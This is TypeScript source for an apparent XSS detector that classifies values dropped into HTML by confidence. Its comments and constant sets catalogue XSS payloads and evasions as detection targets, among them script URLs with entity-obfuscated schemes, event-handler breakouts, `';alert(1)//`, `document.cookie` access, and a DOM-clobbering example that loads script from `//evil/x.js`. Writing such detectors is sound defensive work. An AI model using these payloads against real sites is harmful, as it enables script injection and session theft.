/**
 * Cross-site scripting: does the value, dropped into an HTML page (text, an attribute, a URL attribute,
 * a `<style>` or an inline script string), make the browser run script or load active content?
 *
 * Decided by structure:
 * - tags, split into attributes by the browser-faithful scanner in tokenizers/html.ts: script and
 *   embedding tags, any `on*` event handler, attribute values that are `javascript:`/`vbscript:`/
 *   `data:text/html` URLs (entities, tabs and newlines inside the scheme undone), `<base href>`,
 *   `<meta http-equiv>` (not the UTF-8/Latin charset or IE=edge declarations of HTML e-mail: low),
 *   `<link rel=import|stylesheet>`, elements named after document or Node members (DOM clobbering:
 *   `<img name=currentScript>`, `<form><input name=attributes>`); `javascript:void(0)` exactly and
 *   SVG data URLs in `<img src>` run nothing (low);
 * - attribute breakouts without a tag: a quote that closes the attribute the value landed in, followed
 *   by a new `on*=` attribute (`" onmouseover="…`, `' autofocus onfocus=…`);
 * - script URLs on their own (the value may become an `href`), only when code follows the scheme, so
 *   "JavaScript: The Good Parts" passes;
 * - CSS `expression(` / `behavior:` / `-moz-binding:` after a property colon (comments and escapes
 *   inside the keyword undone);
 * - JavaScript-string breakouts (`';alert(1)//`, `'-alert(1)-'`) and values that are a dialog/eval call,
 *   also as a template-literal substitution (`${alert(1)}`);
 * - AngularJS template injection: `{{ … constructor … }}` and friends;
 * - element names an evasion disguises (`< script`, `< x: script`, `<s c r i p t`, `<f o r m`), DTD
 *   attribute lists that add handlers, squeezed IE `<importimplementation=`, and a value that is only a
 *   numeric reference to `<` (`&#X00003c;`, an entity-decoding probe);
 * - code carried inside a tag whatever the attribute (`<a href="x#alert(1)">`, `<a title=
 *   "document.cookie">`), and DOM code (`document.cookie=…`, `window.location=…`) as a value or after a
 *   breakout;
 * - style attributes whose CSS escapes hide a property name or spell markup (`be\haviour:`, `\3cimg`);
 * - markup that changes what the page shows or where it loads from without any script, which no
 *   editor writes into rich text: a password field (phishing, password-manager autofill), CSS that
 *   leaves its string, `url()` or declaration block (`font-family:'x;color:red'`, `x}p{…`),
 *   `content:url()` and external SVG references (`clip-path:url(x.svg#a)`), links and images to an
 *   IP written as one integer or in hex/octal, SVG animations that retarget a link, obsolete
 *   raw-text tags (`<plaintext>`, `<xmp>`), a value that is only end tags (`</textarea>`,
 *   `</body></html>`) or opens a comment it never closes, an `<input pattern>` with a nested
 *   quantifier (`(a+)+`: the browser's validation hangs);
 * - PHP code after an open tag (`<?php`, `<?= $x`, `<? echo(`), aimed at a template the server runs;
 *   `<?xml …?>` passes.
 * Weaker signals stay below `high`: a trailing `}` in a style attribute, `<noscript>`, an end tag
 * after text that the value did not open, a comment left open mid-text, a schema fetched from
 * another site than its namespace, a quote and `>` before a harmless tag (not the end of the tag
 * before it), DOM code inside an expression, an `<iframe>` of a video or map player (YouTube,
 * Vimeo, Google Maps… with nothing active on the tag), a JSX handler bound to a name
 * (`onClick={save}`) (medium); a value that is a timer given a function name (`setInterval(tick,
 * 1000)`) and other XML schema locations (low).
 * Prose with angle brackets (`a < b`, `<3`, `x<y>z`, `<me@x.com>`, `use <b>bold</b>`) is text or a
 * harmless tag: nothing, or `low`.
 *
 * Cost: a charCode prefilter returns at once for strings without any of `< : ( \` { = &` (most ids,
 * names, numbers and plain sentences); the same pass checks, around each of those characters, whether
 * the scan it would trigger can fire at all (a sink name before `(`, a scheme name before `:`, `on…`
 * before `=`, a `document`/`window` root before `.`, whose positions it keeps for the DOM scan), so
 * `Mozilla/5.0 (X11; …` or `https://host/?a=1` scan nothing more. Sink calls are found from the call
 * characters backwards, so text between calls is not read again. Every later pass is a single linear
 * scan; per-position look-aheads and look-backs are bounded by small constants or cover disjoint
 * stretches, so adversarial input (1 MB of `<`, quotes or `javascript:`) stays linear.
 */
import { isHtmlSpace, scanHtmlTags, shortEndTag, type HtmlTag } from '../tokenizers/html';
import type { Confidence, Detection } from '../types';
import { decodeBase64 } from '../decode';

const RANK: Record<Confidence, number> = { low: 1, medium: 2, high: 3 };

/** Keeps the most confident finding seen so far; the first of equal rank wins. */
class Best {
  hit: Detection | undefined;
  add(rule: string, confidence: Confidence, reason: string): boolean {
    if (this.hit === undefined || RANK[confidence] > RANK[this.hit.confidence]) {
      this.hit = { rule: `xss.${rule}`, reason, confidence };
    }
    return confidence === 'high';
  }
  /** Would a finding of this confidence replace the current one? Lets hot loops skip building reasons. */
  wants(confidence: Confidence): boolean {
    return this.hit === undefined || RANK[confidence] > RANK[this.hit.confidence];
  }
  get high(): boolean {
    return this.hit !== undefined && this.hit.confidence === 'high';
  }
}

/** Tags that run script or load active content whatever their attributes. */
const SCRIPT_TAGS = new Set(['script']);
const EMBED_TAGS = new Set(['iframe', 'frame', 'object', 'embed', 'applet', 'portal', 'layer', 'ilayer', 'vmlframe']);

/** Attributes whose value the browser loads or navigates to (HTML, SVG, SMIL, legacy IE). */
const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'action',
  'formaction',
  'data',
  'xlink:href',
  'background',
  'lowsrc',
  'dynsrc',
  'poster',
  'codebase',
  'cite',
  'to',
  'from',
  'by',
  'values',
  'srcset',
  'ping',
  'content',
  'style',
  'code',
  'archive',
  'classid',
]);

/**
 * Elements whose content the parser reads as raw text up to their end tag (or, for `<plaintext>`, to
 * the end of the page): the rest of the page stops rendering (defacement), and markup inside them is
 * read differently by sanitizers and browsers (mutation XSS). All but `<noscript>` are obsolete and no
 * editor emits them: high. `<noscript>` wraps the fallback images of lazy-loading CMS content: medium.
 */
const RAW_TEXT_TAGS = new Set(['plaintext', 'xmp', 'listing', 'noembed', 'noframes']);

/**
 * Elements whose end tag, written by a value that did not open them, ends the context the value was
 * placed in: a `<title>` or `<textarea>` (the value was meant to stay text inside it), an inline
 * script or style, a raw-text element, the document itself.
 */
const CONTEXT_ELEMENTS = new Set([
  'script', 'style', 'title', 'textarea', 'noscript', 'xmp', 'iframe', 'noembed', 'noframes', 'template',
  'html', 'head', 'body', 'frameset', 'select', 'option',
]);

/** The shortest CONTEXT_ELEMENTS name's length: shorter names need no look-up. */
const CONTEXT_MIN = Math.min(...[...CONTEXT_ELEMENTS].map((x) => x.length));

/** Context elements whose content is raw text or RCDATA: an opener written inside them is text. */
const RCDATA_ELEMENTS = new Set(['script', 'style', 'title', 'textarea', 'xmp', 'iframe', 'noembed', 'noframes']);

/** Attributes an SVG animation (`<set>`, `<animate>`) may not retarget in honest markup: link targets. */
const LINK_ATTRIBUTES = new Set(['href', 'xlink:href', 'src', 'action', 'formaction']);

/** Attributes that bind data or behaviour into the page (IE data islands, HTC behaviours). */
const ACTIVE_ATTRIBUTES = new Set(['datasrc', 'dataformatas', 'datafld', 'implementation', 'srcdoc', 'ev:handler']);

/**
 * Event handler attribute names, current and legacy (IE, old Firefox), without the `on` prefix. Inside
 * a tag any `on*` attribute is reported; outside a tag (attribute breakout) the name must be known, so
 * "online=1" or "onboarding=true" in a query-like value pass.
 */
const EVENTS = new Set(
  (
    'abort activate afterprint afterscriptexecute afterupdate animationcancel animationend animationiteration ' +
    'animationstart auxclick beforeactivate beforecopy beforecut beforedeactivate beforeeditfocus beforeinput ' +
    'beforepaste beforeprint beforescriptexecute beforetoggle beforeunload beforeupdate begin blur bounce ' +
    'cancel canplay canplaythrough cellchange change click close contextmenu controlselect copy cuechange cut ' +
    'dataavailable datasetchanged datasetcomplete dblclick deactivate drag dragdrop dragend dragenter dragexit ' +
    'dragleave dragover dragstart drop durationchange emptied end ended error errorupdate filterchange finish ' +
    'focus focusin focusout formchange formdata forminput fullscreenchange fullscreenerror gotpointercapture ' +
    'hashchange help input invalid keydown keypress keyup layoutcomplete load loadeddata loadedmetadata loadend ' +
    'loadstart losecapture lostpointercapture message messageerror mousedown mouseenter mouseleave mousemove ' +
    'mouseout mouseover mouseup mousewheel move moveend movestart offline online outofsync pagehide pageshow ' +
    'paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout ' +
    'pointerover pointerrawupdate pointerup popstate progress propertychange ratechange readystatechange redo ' +
    'repeat reset resize resizeend resizestart resume reverse rowdelete rowenter rowexit rowinserted rowsdelete ' +
    'rowsinserted scroll scrollend search securitypolicyviolation seek seeked seeking select selectionchange ' +
    'selectstart show slotchange stalled start stop storage submit suspend synchronize timeerror timeupdate ' +
    'toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun ' +
    'transitionstart undo unhandledrejection unload urlflip visibilitychange volumechange waiting ' +
    'webkitanimationend webkitanimationiteration webkitanimationstart webkitmouseforcechanged ' +
    'webkitmouseforcedown webkitmouseforceup webkitmouseforcewillbegin webkitplaybacktargetavailabilitychanged ' +
    'webkittransitionend wheel zoom'
  ).split(' '),
);

/** `data:` media types a browser renders as a document or runs as script. */
const ACTIVE_DATA_TYPES = new Set([
  'text/html',
  'text/xml',
  'application/xml',
  'application/xhtml+xml',
  'image/svg+xml',
  // `+` decoded to a space by a form decoder, then dropped by the reader.
  'image/svgxml',
  'text/javascript',
  'application/javascript',
  'application/x-javascript',
  'text/ecmascript',
  'application/ecmascript',
  'text/vbscript',
  'application/x-shockwave-flash',
]);
/**
 * ACTIVE_DATA_TYPES as a trie over ASCII code units: DATA_NEXT[(state << 7) | unit] is the state
 * after `unit`, 0 when no type goes on with it (state 0, the empty prefix, is never entered again);
 * DATA_END[state] is 1 when the prefix read so far is a whole type. A state stands for exactly one
 * prefix, so "state not 0" is "the text read is a prefix of some type" (no type holds a unit above
 * ASCII).
 */
let dataStates = 1;
(() => {
  for (const type of ACTIVE_DATA_TYPES) dataStates += type.length;
})();
const DATA_NEXT = new Uint16Array(dataStates << 7);
const DATA_END = new Uint8Array(dataStates);
(() => {
  let next = 1;
  for (const type of ACTIVE_DATA_TYPES) {
    let st = 0;
    for (let k = 0; k < type.length; k++) {
      const u = type.charCodeAt(k);
      const at = (st << 7) | u;
      if (DATA_NEXT[at] === 0) DATA_NEXT[at] = next++;
      st = DATA_NEXT[at] as number;
    }
    DATA_END[st] = 1;
  }
})();

/** Calls that XSS payloads use as a proof or a trampoline. */
const SINKS = new Set(['alert', 'prompt', 'confirm', 'eval', 'setTimeout', 'setInterval', 'execScript']);

/**
 * DOM members that payloads read or write to steal, rewrite or navigate: `document.cookie`,
 * `window.location`, `document.body.appendChild(…)`. A `document.`/`window.` chain counts only when
 * its first member is one of these, so file names ("document.pdf", "window.png") are not code.
 */
const DOM_MEMBERS: Record<'document' | 'window', ReadonlyMap<number, readonly string[]>> = {
  document: byFirstChar(
    'cookie domain write writeln location URL documentURI referrer body head documentElement createElement ' +
      'getElementById getElementsByTagName getElementsByName getElementsByClassName querySelector querySelectorAll ' +
      'forms images links scripts open execCommand implementation defaultView all createRange evaluate baseURI',
  ),
  window: byFirstChar(
    'location open name eval alert prompt confirm opener parent top frames document localStorage sessionStorage ' +
      'postMessage fetch atob execScript setTimeout setInterval onerror onload XMLHttpRequest Function constructor',
  ),
};

/** Space-separated names grouped by their first character code, so a lookup compares a few at most. */
function byFirstChar(names: string): Map<number, string[]> {
  const m = new Map<number, string[]>();
  for (const name of names.split(' ')) {
    const list = m.get(name.charCodeAt(0)) ?? [];
    list.push(name);
    m.set(name.charCodeAt(0), list);
  }
  return m;
}

/**
 * `s.startsWith(word, p)` for the short ASCII words of the hot paths, as a plain loop: V8 does not
 * inline the builtin, which costs tens of nanoseconds a call. Out-of-range `p` is false.
 */
function matchAt(s: string, p: number, word: string): boolean {
  const len = word.length;
  if (p < 0 || p + len > s.length) return false;
  for (let k = 0; k < len; k++) if (s.charCodeAt(p + k) !== word.charCodeAt(k)) return false;
  return true;
}

/** Is `s[a, e)` one of `names`? Compared in place: no substring is built. */
function memberIn(names: ReadonlyMap<number, readonly string[]>, s: string, a: number, e: number): boolean {
  const list = names.get(s.charCodeAt(a));
  if (list === undefined) return false;
  for (const name of list) if (name.length === e - a && matchAt(s, a, name)) return true;
  return false;
}

/**
 * A `document.`/`window.` member chain at `p` whose first member is in DOM_MEMBERS: the index after
 * the chain (`document.body.appendChild` as a whole), or -1. At most 256 characters are read.
 */
function domChainAt(s: string, p: number): number {
  let root: 'document' | 'window';
  if (matchAt(s, p, 'document.')) root = 'document';
  else if (matchAt(s, p, 'window.')) root = 'window';
  else return -1;
  const a = p + root.length + 1;
  const limit = Math.min(s.length, p + 256);
  let q = a;
  while (q < limit && isIdentChar(s.charCodeAt(q))) q++;
  if (!memberIn(DOM_MEMBERS[root], s, a, q)) return -1;
  while (q + 1 < limit && s.charCodeAt(q) === 46 && isIdentChar(s.charCodeAt(q + 1))) {
    q += 2;
    while (q < limit && isIdentChar(s.charCodeAt(q))) q++;
  }
  return q;
}

/**
 * What follows a DOM chain makes it code: the end of the value, a call, an assignment, an index, an
 * operator, a quote or `>` closing the attribute it sits in. A word after a space ("document.domain
 * is deprecated") or a comma in a list is prose.
 */
function codeAfter(s: string, q: number): boolean {
  let k = q;
  while (k < s.length && k - q < 8 && (s.charCodeAt(k) === 32 || s.charCodeAt(k) === 9)) k++;
  if (k >= s.length) return true;
  const c = s.charCodeAt(k);
  if (c === 40 && namedInProse(s, k)) return false;
  return (
    c === 40 || c === 61 || c === 59 || c === 91 || c === 41 || c === 43 || c === 34 || c === 39 || c === 96 || c === 125 || c === 93 || c === 62 || c === 38 || c === 124
  );
}

/**
 * `(` at `k` opens an empty argument list followed by a blank and a word: a function named in a
 * sentence ("eval() is evil", "document.write() is deprecated"), not a call. Payloads follow a call
 * with `;`, a quote, `>`, `//` or nothing.
 */
function namedInProse(s: string, k: number): boolean {
  if (s.charCodeAt(k + 1) !== 41) return false;
  let q = k + 2;
  while (q < s.length && q - k < 10 && (s.charCodeAt(q) === 32 || s.charCodeAt(q) === 9)) q++;
  return q > k + 2 && isAsciiLetter(s.charCodeAt(q));
}

/** The start of a `document`/`window` root that ends at `dot` (the index of a `.`), or -1. */
function domRootBefore(s: string, dot: number): number {
  const last = s.charCodeAt(dot - 1);
  let a: number;
  if (last === 116 /* t */ && matchAt(s, dot - 8, 'document')) a = dot - 8;
  else if (last === 119 /* w */ && matchAt(s, dot - 6, 'window')) a = dot - 6;
  else return -1;
  // `mydocument.x`, `a.window.x` are other objects' members; `/api/document.cookie` is a path (a
  // link to the docs), `me@document.example` an address. (`-` stays: `'-document.write(1)-'`.)
  const prev = s.charCodeAt(a - 1);
  return a > 0 && (isIdentChar(prev) || prev === 46 || prev === 47 || prev === 64) ? -1 : a;
}

/** Is `p` inside one of the `[start, end)` pairs (sorted, disjoint) in `spans`? Binary search. */
function inSpan(spans: readonly number[], p: number): boolean {
  let lo = 0;
  let hi = (spans.length >> 1) - 1;
  while (lo <= hi) {
    const m = (lo + hi) >> 1;
    if (p < (spans[2 * m] as number)) hi = m - 1;
    else if (p >= (spans[2 * m + 1] as number)) lo = m + 1;
    else return true;
  }
  return false;
}

function isAsciiLetter(c: number): boolean {
  return (c >= 65 && c <= 90) || (c >= 97 && c <= 122);
}
function isAlnum(c: number): boolean {
  return (c >= 48 && c <= 57) || (c >= 65 && c <= 90) || (c >= 97 && c <= 122);
}
function isIdentChar(c: number): boolean {
  return isAlnum(c) || c === 95 || c === 36;
}
function lower(c: number): number {
  return c >= 65 && c <= 90 ? c + 32 : c;
}
function hexVal(c: number): number {
  if (c >= 48 && c <= 57) return c - 48;
  c |= 0x20;
  return c >= 97 && c <= 102 ? c - 87 : -1;
}
/** `s.indexOf(needle, from)` that looks no further than `limit`: keeps per-position work bounded. */
function indexWithin(s: string, needle: string, from: number, limit: number): number {
  const end = Math.min(s.length, limit);
  if (from >= end) return -1;
  const k = s.slice(from, end).indexOf(needle);
  return k === -1 ? -1 : from + k;
}

/**
 * `s.indexOf(String.fromCharCode(code), from)`: the next 8 characters read first, then one native
 * search. In text dense with the character (`?<?<`, `<!<!`) the next one is a load or two away,
 * nearer than a native call is cheap (a call per character: ~10 µs/KB at 64 KB).
 */
function nextOf(s: string, code: number, ch: string, from: number): number {
  const end = Math.min(s.length, from + 8);
  for (let k = from; k < end; k++) if (s.charCodeAt(k) === code) return k;
  return end < s.length ? s.indexOf(ch, end) : -1;
}

function isQuote(c: number): boolean {
  return c === 34 || c === 39 || c === 96;
}

// ---------------------------------------------------------------------------------------------------
// Obfuscation-aware character reader for URL schemes: HTML entities decoded, and tab/LF/CR (which the
// URL parser strips anywhere) skipped. Bounded: at most `SCHEME_BUDGET` raw characters per attempt.
// ---------------------------------------------------------------------------------------------------

const SCHEME_BUDGET = 96;

/** The few named entities that matter inside a scheme (lower case, with their `;`). */
const SCHEME_ENTITIES: readonly [string, number][] = [
  ['tab;', 9],
  ['newline;', 10],
  ['colon;', 58],
];

/** Where the digits read by the last numericRefValue call ended (the index after the last one). */
let numericRefEnd = 0;

/** Decodes an entity at `p` (which holds `&`). Returns [codePoint, nextIndex] or undefined. */
function entityAt(s: string, p: number): [number, number] | undefined {
  if (s.charCodeAt(p + 1) === 35 /* # */) {
    const cp = numericRefValue(s, p);
    if (cp === -1) return undefined;
    const j = numericRefEnd;
    return [cp, s.charCodeAt(j) === 59 ? j + 1 : j];
  }
  // Each name starts with `t`, `n` or `c`: one load answers for any other `&` (`&:`, `&&`, `&amp;`)
  // without the walk over the names, ~8 % of the engine on 1 MB of `::::&`.
  const l = lower(s.charCodeAt(p + 1));
  if (l !== 116 && l !== 110 && l !== 99) return undefined;
  for (const [name, cp] of SCHEME_ENTITIES) {
    let k = 0;
    while (k < name.length && lower(s.charCodeAt(p + 1 + k)) === name.charCodeAt(k)) k++;
    if (k === name.length) return [cp, p + 1 + k];
  }
  return undefined;
}

/**
 * The code point of the numeric reference `&#…` at `p` (which holds `&`, `p + 1` `#`), or -1 when no
 * digit follows; its digits end at numericRefEnd. entityAt reads references with it, and the gates
 * call it without the pair entityAt allocates. Leading zeros are free (`&#x0000006a;`); the digit
 * count is capped so the attempt stays bounded.
 */
function numericRefValue(s: string, p: number): number {
  let j = p + 2;
  const hex = (s.charCodeAt(j) | 0x20) === 120;
  if (hex) j++;
  const start = j;
  let cp = 0;
  while (j < s.length && j - start < 12) {
    const d = hex ? hexVal(s.charCodeAt(j)) : s.charCodeAt(j) - 48;
    if (d < 0 || d > (hex ? 15 : 9)) break;
    cp = cp * (hex ? 16 : 10) + d;
    j++;
  }
  numericRefEnd = j;
  return j === start ? -1 : cp;
}

/**
 * At `p`, `&#`: is the reference `:` (numericRefValue 58)? Its digits, leading zeros aside, are `58`
 * or `x3a`: unless the first digit is `0` (read exactly, by numericRefValue), the first two digits
 * answer for every other reference (`&#38;`, `&#60;`, `&#x26;`, `&#x3c;`, a bare `&#`) without the
 * digit loop, which detectXss's first pass ran for each of them (~2 µs/KB on 1 MB of `&#38;`).
 */
function refIsColon(s: string, p: number): boolean {
  let j = p + 2;
  const hex = (s.charCodeAt(j) | 0x20) === 120;
  if (hex) j++;
  const d = s.charCodeAt(j);
  if (d !== 48) {
    if (hex ? d !== 51 || (s.charCodeAt(j + 1) | 0x20) !== 97 : d !== 53 || s.charCodeAt(j + 1) !== 56) return false;
  }
  return numericRefValue(s, p) === 58;
}

interface Reader {
  c: number;
  next: number;
}

/**
 * Next meaningful lower-cased code unit at or after `p`, skipping tab/LF/CR (raw or as entities), and
 * HTML comments / CDATA seams (`javas<!-- -->cript:`) that older parsers dropped. With `loose`, also
 * NUL, spaces and NBSP, which legacy browsers ignored inside a scheme; the caller then demands code
 * after the colon.
 */
function readSchemeChar(s: string, p: number, limit: number, out: Reader, loose = false): boolean {
  while (p < limit) {
    let c = s.charCodeAt(p);
    let next = p + 1;
    if (c === 38 /* & */) {
      const e = entityAt(s, p);
      if (e !== undefined) {
        c = e[0];
        next = e[1];
      }
    } else if (c === 60 /* < */ && s.startsWith('<!--', p)) {
      const close = indexWithin(s, '-->', p + 4, limit);
      if (close === -1) return false;
      p = close + 3;
      continue;
    } else if (c === 60 /* < */ && s.charCodeAt(p + 1) === 33 && s.slice(p, p + 9).toUpperCase() === '<![CDATA[') {
      p += 9;
      continue;
    } else if (c === 93 /* ] */ && s.startsWith(']]>', p)) {
      p += 3;
      if (s.startsWith('<![', p)) {
        const open = indexWithin(s, '[', p + 3, limit);
        if (open === -1) return false;
        p = open + 1;
      }
      continue;
    }
    if (c === 9 || c === 10 || c === 13 || (loose && (c < 32 || c === 32 || c === 0xa0))) {
      p = next;
      continue;
    }
    out.c = lower(c);
    out.next = next;
    return true;
  }
  return false;
}

type SchemeKind = 'javascript' | 'vbscript' | 'livescript' | 'mocha' | 'data';

const SCHEMES: SchemeKind[] = ['javascript', 'vbscript', 'livescript', 'mocha', 'data'];

/**
 * Matches a script-capable scheme (with its `:`) starting at `p`; leading C0 controls and spaces are
 * skipped when `leading` (URL parsers strip them). Returns the scheme and the index after the colon.
 */
function schemeAt(s: string, p: number, leading: boolean, loose = false): { kind: SchemeKind; after: number } | undefined {
  const limit = Math.min(s.length, p + SCHEME_BUDGET);
  const r: Reader = { c: 0, next: 0 };
  if (leading) {
    while (readSchemeChar(s, p, limit, r) && (r.c <= 32 || r.c === 0xa0)) p = r.next;
  }
  if (!readSchemeChar(s, p, limit, r)) return undefined;
  const first = r.c;
  for (const kind of SCHEMES) {
    if (kind.charCodeAt(0) !== first) continue;
    let q = r.next;
    let k = 1;
    const t: Reader = { c: 0, next: 0 };
    while (k < kind.length && readSchemeChar(s, q, limit, t, loose) && t.c === kind.charCodeAt(k)) {
      q = t.next;
      k++;
    }
    if (k < kind.length) continue;
    if (!readSchemeChar(s, q, limit, t, loose) || t.c !== 58 /* : */) continue;
    return { kind, after: t.next };
  }
  return undefined;
}

/** For `data:`: is the media type one a browser renders as a document or runs? */
function activeDataType(s: string, p: number): boolean {
  const limit = Math.min(s.length, p + 64);
  // The type read so far, as its state in the trie (DATA_NEXT): the text read only grows, so once
  // it starts no active type, it ends none. Text dense with `data:` that names no type (`data:x
  // data:x …`) read 64 characters at each (~120 µs/KB of the detector). A string built a unit at a
  // time and looked up in a set of prefixes at each (`data:text/html ` over and over: ~10 lookups
  // of a new string a `data:`) cost ~20 µs/KB of the detector.
  let st = 0;
  const r = DATA_READER;
  while (readSchemeChar(s, p, limit, r)) {
    if (r.c === 44 /* , */ || r.c === 59 /* ; */) break;
    if (r.c > 32) {
      // The unit String.fromCharCode would have made of it (a reference may decode above U+FFFF,
      // which it reads modulo 2^16: `&#x10074;` read as `t`).
      const u = r.c % 65536;
      st = u < 128 ? (DATA_NEXT[(st << 7) | u] as number) : 0;
      if (st === 0) return false;
    }
    p = r.next;
  }
  return DATA_END[st] === 1;
}

/** activeDataType's reader (it calls nothing that reads with it). */
const DATA_READER: Reader = { c: 0, next: 0 };

/**
 * After `javascript:`: does code follow? A punctuation start (`/`, `(`, quote, backslash, `%`…) or an
 * identifier chain (`a.b.c`) directly followed by `(`, a backtick, `=` or `[`. Prose ("JavaScript:
 * The Good Parts") has a word and a space.
 */
function codeFollows(s: string, p: number): boolean {
  const n = s.length;
  while (p < n && (s.charCodeAt(p) <= 32 || s.charCodeAt(p) === 0xa0)) p++;
  if (p >= n) return false;
  const c = s.charCodeAt(p);
  if (!isIdentChar(c)) {
    // `javascript:` then a closing quote or `>` (`c="javascript:";`) is a URL being assembled.
    return c !== 44 /* , */ && c !== 46 /* . */ && c !== 33 /* ! */ && c !== 63 /* ? */;
  }
  // `javascript:document.cookie`: a DOM read or write is code even without a call.
  const dom = domChainAt(s, p);
  if (dom !== -1 && codeAfter(s, dom)) return true;
  let q = p;
  while (q < n && q - p < 64 && (isIdentChar(s.charCodeAt(q)) || s.charCodeAt(q) === 46)) q++;
  const d = s.charCodeAt(q);
  if (d === 40 || d === 96 || d === 61 || d === 91) return true;
  // `javascript:alert&#40;1)` keeps its parenthesis behind an entity.
  if (d === 38) {
    const e = entityAt(s, q);
    return e !== undefined && (e[0] === 40 || e[0] === 96);
  }
  return false;
}

function schemeReason(kind: SchemeKind): string {
  return kind === 'data' ? 'A data: URL with an HTML, SVG or script media type.' : `A ${kind}: URL that runs script.`;
}

// ---------------------------------------------------------------------------------------------------
// Tags
// ---------------------------------------------------------------------------------------------------

function localName(name: string): string {
  // A loop, not lastIndexOf: names are short, and the native call cost more than the search on runs
  // of tags (1 MB of `</a>x`: a sixth of the detector's time, two calls per tag). Same index.
  for (let i = name.length - 1; i >= 0; i--) if (name.charCodeAt(i) === 58) return name.slice(i + 1);
  return name;
}

/** A plausible element name: letters, digits, `-`, `:`; emails and arrows are not. */
function elementLike(name: string): boolean {
  if (name.length === 0 || name.length > 32) return false;
  for (let i = 0; i < name.length; i++) {
    const c = name.charCodeAt(i);
    if (!(isAlnum(c) || c === 45 || c === 58)) return false;
  }
  return true;
}

/**
 * Player pages that rich-text editors embed with an `<iframe>` (YouTube, Vimeo, Google Maps, …):
 * exact https host and path prefix, read from the raw `src` (an entity or a blank in the scheme
 * makes it no match), and no `srcdoc`. The host ends at the first `/`, so `@`, `\` or a longer
 * host name (`www.youtube.com.evil.example`) never match. O(attributes).
 */
const PLAYER_EMBEDS: readonly (readonly [string, string])[] = [
  ['www.youtube.com', '/embed/'],
  ['youtube.com', '/embed/'],
  ['www.youtube-nocookie.com', '/embed/'],
  ['player.vimeo.com', '/video/'],
  ['www.google.com', '/maps/embed'],
  ['open.spotify.com', '/embed/'],
  ['w.soundcloud.com', '/player/'],
  ['www.dailymotion.com', '/embed/'],
  ['player.twitch.tv', '/?'],
  ['www.loom.com', '/embed/'],
  ['fast.wistia.net', '/embed/'],
];

/**
 * Script URLs that cannot run anything, which CMS menus and HTML e-mail carry by the thousand:
 * - `href="javascript:void(0)"` (also `javascript:;`, `javascript:void 0`, `javascript:`): the
 *   placeholder link of every dropdown menu; the scheme must be spelled plainly (any case) and
 *   the text after the colon must be exactly that, so
 *   `javascript:void(alert(1))` or anything with a reference or escape stays high;
 * - `<img src="data:image/svg+xml;…">` (also `<image>`, `<source>`, `<video poster>`): an SVG drawn
 *   as an image runs no script and loads nothing (browsers render image documents in secure
 *   static mode); the type must be spelled plainly. `<use>`, `<iframe>`, `<object>`, `<embed>` and
 *   links still get SVG documents that run, so they stay high.
 * Reads at most 24 characters after the colon.
 */
function inertScriptUrl(v: string, kind: SchemeKind, after: number, tag: string, attribute: string): boolean {
  if (kind === 'javascript') {
    // Only the scheme as CMSs write it: a disguised one (`ja&Tab;vascript:`, `java\nscript:`) is
    // an evasion probe whatever follows it.
    if (after < 11 || !startsWithLower(v, after - 11, 'javascript:')) return false;
    let e = v.length;
    while (e > after && v.charCodeAt(e - 1) <= 32) e--;
    if (e - after > 12) return false;
    const rest = v.slice(after, e).toLowerCase();
    return rest === '' || rest === ';' || rest === 'void(0)' || rest === 'void(0);' || rest === 'void 0' || rest === 'void 0;';
  }
  if (kind !== 'data') return false;
  const image =
    ((tag === 'img' || tag === 'source') && (attribute === 'src' || attribute === 'srcset')) ||
    (tag === 'image' && (attribute === 'href' || attribute === 'xlink:href')) ||
    (tag === 'video' && attribute === 'poster');
  if (!image) return false;
  const type = v.slice(after, after + 14).toLowerCase();
  return type === 'image/svg+xml;' || type === 'image/svg+xml,';
}

/**
 * `<script type="application/ld+json">`: structured data (schema.org) that CMS page bodies and SEO
 * plugins carry; a browser never runs a script whose type is not a JavaScript MIME type, `module`,
 * `importmap` or `speculationrules`. Only this exact type (other data types feed client-side
 * template engines), only one `type`, and no `src`.
 */
/**
 * `<script` at `k - 6` is followed by exactly ` type="application/ld+json">` (either quote, any case):
 * one attribute, then the end of the tag, which the tag scanner reads as the same tag and checkTag
 * judges (jsonLdBlock). Any other spelling stays high in scanDangerousTagNames.
 */
function jsonLdAt(s: string, k: number): boolean {
  if (!startsWithLower(s, k, ' type=') || !startsWithLower(s, k + 7, 'application/ld+json')) return false;
  const q = s.charCodeAt(k + 6);
  return (q === 34 || q === 39) && s.charCodeAt(k + 26) === q && s.charCodeAt(k + 27) === 62;
}

function jsonLdBlock(tag: HtmlTag): boolean {
  let ld = false;
  for (const a of tag.attributes) {
    if (a.name === 'type') {
      if (ld) return false;
      ld = a.value.trim().toLowerCase() === 'application/ld+json';
      if (!ld) return false;
    } else if (a.name === 'src') return false;
  }
  return ld;
}

/**
 * DOM clobbering. A `name` on `<img>`, `<form>`, `<embed>`, `<object>` or `<iframe>` becomes a
 * property of `document` that hides the real one: `<img name=currentScript src=//evil/x.js>` makes
 * bundlers that read `document.currentScript.src` load their chunks from the attacker (webpack's
 * CVE-2024-43788), `<form name=getElementById>` breaks the page's own code paths, `<img name=cookie>`
 * feeds a fake cookie. A `name` or `id` on a form control (or an `<img>` in a form) becomes a
 * property of the form that hides a Node member: `<form><input name=attributes>` is the classic
 * sanitizer bypass (the sanitizer walks the fake `attributes`, the browser keeps the real ones).
 * Names only, case as written (named properties are case-sensitive): rich text names its anchors
 * and images `logo` or `section-2`, never `currentScript` or `parentNode`. Left out: `location`
 * (unforgeable, cannot be shadowed) and names real forms use (`domain`, `children`, `head`).
 */
const DOCUMENT_CLOBBER = new Set([
  'currentScript', 'cookie', 'body', 'documentElement', 'defaultView',
  'createElement', 'getElementById', 'getElementsByTagName', 'getElementsByClassName', 'getElementsByName',
  'querySelector', 'querySelectorAll', 'write', 'writeln', 'baseURI', 'URL', 'referrer', 'scripts',
  'implementation', 'readyState', 'activeElement',
]);
const FORM_CLOBBER = new Set([
  'attributes', 'nodeName', 'nodeType', 'nodeValue', 'parentNode', 'parentElement', 'childNodes',
  'firstChild', 'lastChild', 'appendChild', 'removeChild', 'insertBefore', 'cloneNode', 'hasChildNodes',
  'getAttribute', 'setAttribute', 'removeAttribute', 'hasAttribute', 'innerHTML', 'outerHTML', 'textContent',
  'tagName', 'localName', 'namespaceURI', 'ownerDocument', 'querySelector', 'querySelectorAll',
]);
const DOCUMENT_NAMED = new Set(['img', 'form', 'embed', 'object', 'iframe']);
